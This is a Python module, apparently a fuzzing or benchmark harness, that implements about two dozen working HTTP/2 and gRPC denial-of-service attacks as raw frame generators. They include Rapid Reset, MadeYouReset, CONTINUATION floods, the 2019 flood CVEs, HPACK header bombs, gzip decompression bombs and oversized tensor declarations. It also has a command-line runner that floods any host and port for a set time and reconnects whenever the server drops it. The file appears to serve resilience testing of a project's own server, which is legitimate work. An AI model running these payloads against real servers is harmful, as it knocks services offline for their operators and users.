"""Attacks on HTTP/2 that were published, and others of their kind, each as bytes on sockets.

`python -m benchmarks.fuzz.http2_attacks NAME HOST:PORT SECONDS` runs one. It says how much it sent and how often it
connected, since the server closes such connections.
"""

import gzip
import resource
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count, islice
from typing import Final

from bench.serving.http2.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PADDED,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    rst_stream,
    window_update,
)
from bench.serving.http2.grpc_wire import framed
from bench.serving.http2.hpack import encode
from bench.serving.protos import predict_pb2, types_pb2

_PRIORITY: Final = 2
_CANCEL: Final = 8
_METHOD: Final = b"/tensorflow.serving.PredictionService/"
_WATCHED: Final = b"/grpc.health.v1.Health/Watch"
_PART: Final = 200
# Values, a byte each: as many as a message may have when it is unpacked.
_MILLIONS: Final = 16_700_000
Frames = Iterator[bytes]


def _settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def _block(method: bytes = b"Predict", *more: tuple[bytes, bytes]) -> bytes:
    path = method if method.startswith(b"/") else _METHOD + method
    return encode([(b":method", b"POST"), (b":path", path), (b"content-type", b"application/grpc"), *more])


def _metadata() -> bytes:
    """The message of a small request with an answer of some kilobytes."""
    return framed(b"\n\x06\n\x04bert\x12\rsignature_def")


def _call(stream: int, message: bytes, block: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)


def rapid_reset() -> Frames:
    """CVE-2023-44487: calls that are reset as soon as they are made."""
    block, message = _block(b"GetModelMetadata"), _metadata()
    for stream in count(1, 2):
        yield _call(stream, message, block) + rst_stream(stream, _CANCEL)


def made_to_reset() -> Frames:
    """CVE-2025-8671: calls whose streams the server itself must reset."""
    block, message = _block(b"GetModelMetadata"), _metadata()
    for stream in count(1, 2):
        yield _call(stream, message, block) + frame(DATA, 0, stream, b"after the end")


def continuation_flood() -> Frames:
    """CVE-2024-27316: a block of headers without end."""
    yield frame(HEADERS, 0, 1, _block())
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100)


def empty_continuations() -> Frames:
    """The same, of frames without a byte."""
    yield frame(HEADERS, 0, 1, _block())
    while True:
        yield frame(CONTINUATION, 0, 1, b"")


def settings_flood() -> Frames:
    """CVE-2019-9515."""
    while True:
        yield _settings((INITIAL_WINDOW_SIZE, 1), (INITIAL_WINDOW_SIZE, 2))


def ping_flood() -> Frames:
    """CVE-2019-9512."""
    while True:
        yield frame(PING, 0, 0, bytes(8))


def reset_flood() -> Frames:
    """CVE-2019-9514: frames that each ask for a reset."""
    yield frame(HEADERS, END_HEADERS, 1, _block())
    while True:
        yield frame(RST_STREAM, 0, 3, bytes(4))


def empty_frames() -> Frames:
    """CVE-2019-9518: frames of data without a byte."""
    yield frame(HEADERS, END_HEADERS, 1, _block())
    while True:
        yield frame(DATA, PADDED, 1, b"\x03" + bytes(3))


def data_dribble() -> Frames:
    """CVE-2019-9511: large answers, taken byte by byte."""
    yield _settings((INITIAL_WINDOW_SIZE, 0))
    streams = range(1, 2 * _PART, 2)
    for stream in streams:
        yield _call(stream, _metadata(), _block(b"GetModelMetadata"))
    while True:
        for stream in streams:
            yield window_update(1, stream)


def priority_churn() -> Frames:
    """CVE-2019-9513."""
    for stream in count(1, 2):
        yield frame(_PRIORITY, 0, stream % 2**31, struct.pack(">IB", 1, 255))


def headers_without_names() -> Frames:
    """CVE-2019-9516: headers of which neither name nor value has a byte."""
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, b"\x00\x00\x00" * 500)


def unread_answers() -> Frames:
    """CVE-2019-9517: all windows open, no byte read."""
    yield window_update(2**31 - 1 - 65535) + _settings((INITIAL_WINDOW_SIZE, 2**31 - 1))
    for stream in count(1, 2):
        yield _call(stream, _metadata(), _block(b"GetModelMetadata"))


def header_bombs() -> Frames:
    """CVE-2016-6581: a long entry of the table, named again by each byte."""
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000 + b"\xbe" * 8000)


def large_table() -> Frames:
    """Blocks that fill the table, and others to be remembered."""
    for stream in count(1, 2):
        entry = b"\x40\x08" + b"%08d" % (stream % 10**8) + b"\x7f\xa1\x1e" + b"y" * 4000
        yield frame(HEADERS, END_HEADERS, stream, b"\x3f\xe1\x1f" + entry + _block(b"nope"))


def zero_windows() -> Frames:
    """Answers that the client never lets go, and windows that are set again and again."""
    yield _settings((INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 2000, 2):
        yield _call(stream, _metadata(), _block(b"GetModelMetadata"))
    while True:
        yield _settings((INITIAL_WINDOW_SIZE, 0), (INITIAL_WINDOW_SIZE, 1), (INITIAL_WINDOW_SIZE, 0)) + window_update(1)


def open_streams() -> Frames:
    """Calls that never end, as many as come."""
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, _block())


def unfinished_calls() -> Frames:
    """Calls whose messages never begin, as many as a connection may have, on connections that all stay open."""
    for stream in range(1, 2000, 2):
        yield frame(HEADERS, END_HEADERS, stream, _block())


def unfinished_bodies() -> Frames:
    """Calls whose messages never end."""
    part = bytes(16384)
    for stream in range(1, 400, 2):
        yield frame(HEADERS, END_HEADERS, stream, _block())
    while True:
        for stream in range(1, 400, 2):
            yield frame(DATA, 0, stream, part)


def repeated_end() -> Frames:
    """A large message whose end comes again and again."""
    yield frame(HEADERS, END_HEADERS, 1, _block())
    for _ in range(1 << 6):
        yield frame(DATA, 0, 1, bytes(16384))
    while True:
        yield frame(DATA, END_STREAM, 1, b"") + frame(HEADERS, END_HEADERS | END_STREAM, 1, encode([(b"a", b"b")]))


def _packed_calls(message: bytes) -> Frames:
    """Calls whose message is compressed."""
    packed = gzip.compress(message, 1)
    body = b"\1" + len(packed).to_bytes(4, "big") + packed
    block = _block(b"Predict", (b"grpc-encoding", b"gzip"))
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)
        for begin in range(0, len(body), 16384):
            yield frame(DATA, 0, stream, body[begin : begin + 16384])
        yield frame(DATA, END_STREAM, stream, b"")


def packed_bombs() -> Frames:
    """A few bytes that become 64 megabytes."""
    return _packed_calls(bytes(1 << 26))


def _score(size: int) -> predict_pb2.PredictRequest:
    """A request whose tensors declare `size` values and have none."""
    request = predict_pb2.PredictRequest()
    request.model_spec.name, request.model_spec.signature_name = "bert", "score"
    for alias in ("token_ids", "word_ids", "num_pieces"):
        request.inputs[alias].dtype = types_pb2.DT_INT32
        request.inputs[alias].tensor_shape.dim.add(size=size)
    return request


def surplus_values() -> Frames:
    """A few bytes that become millions of values, of a tensor that declares one."""
    request = _score(1)
    request.inputs["num_pieces"].int_val.extend(bytes(_MILLIONS))
    return _packed_calls(request.SerializeToString())


def declared_tensors() -> Frames:
    """A few bytes that declare a tensor of gigabytes."""
    message = framed(_score(1 << 30).SerializeToString())
    for stream in count(1, 2):
        yield _call(stream, message, _block())


def watches() -> Frames:
    """Streams of the health service, which stay open."""
    for stream in count(1, 2):
        yield _call(stream, framed(b""), _block(_WATCHED))


def unknown_frames() -> Frames:
    """Frames of kinds that do not exist, and acknowledgements of nothing."""
    while True:
        yield frame(200, 0, 0, bytes(8)) + frame(SETTINGS, ACK, 0, b"") + frame(PING, ACK, 0, bytes(8))


ATTACKS: Final[dict[str, Callable[[], Frames]]] = {
    attack.__name__: attack
    for attack in (
        *(rapid_reset, made_to_reset, continuation_flood, empty_continuations, settings_flood, ping_flood, reset_flood),
        *(empty_frames, data_dribble, priority_churn, headers_without_names, unread_answers, header_bombs, large_table),
        *(
            zero_windows,
            open_streams,
            unfinished_calls,
            unfinished_bodies,
            repeated_end,
            packed_bombs,
            surplus_values,
            declared_tensors,
        ),
        *(watches, unknown_frames),
    )
}


def attack(name: str, address: tuple[str, int], seconds: float) -> tuple[int, list[socket.socket]]:
    """Attacks for a while, and again from the start where the server closes the connection.

    Returns:
        Bytes sent, and the connections, of which the last may be open, or all.
    """
    end, sent = time.monotonic() + seconds, 0
    connections: list[socket.socket] = []
    while time.monotonic() < end:
        connections.append(socket.create_connection(address, timeout=5.0))
        frames = ATTACKS[name]()
        with suppress(OSError):
            connections[-1].sendall(PREFACE + _settings())
            while time.monotonic() < end and (part := b"".join(islice(frames, _PART))):
                connections[-1].sendall(part)
                sent += len(part)
                if name != unread_answers.__name__:
                    _read_what_has_come(connections[-1])
        if time.monotonic() < end and name != unfinished_calls.__name__:
            connections[-1].close()
    return sent, connections


def _read_what_has_come(connection: socket.socket) -> None:
    while select.select([connection], [], [], 0)[0] and connection.recv(1 << 16):
        pass


def main(name: str, place: str, seconds: str) -> None:
    """Attacks, reports, and holds the connections that are left until standard input ends."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    host, _, port = place.rpartition(":")
    sent, connections = attack(name, (host, int(port)), float(seconds))
    print(f"{sent >> 10} KiB on {len(connections)} connections", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main(*sys.argv[1:])
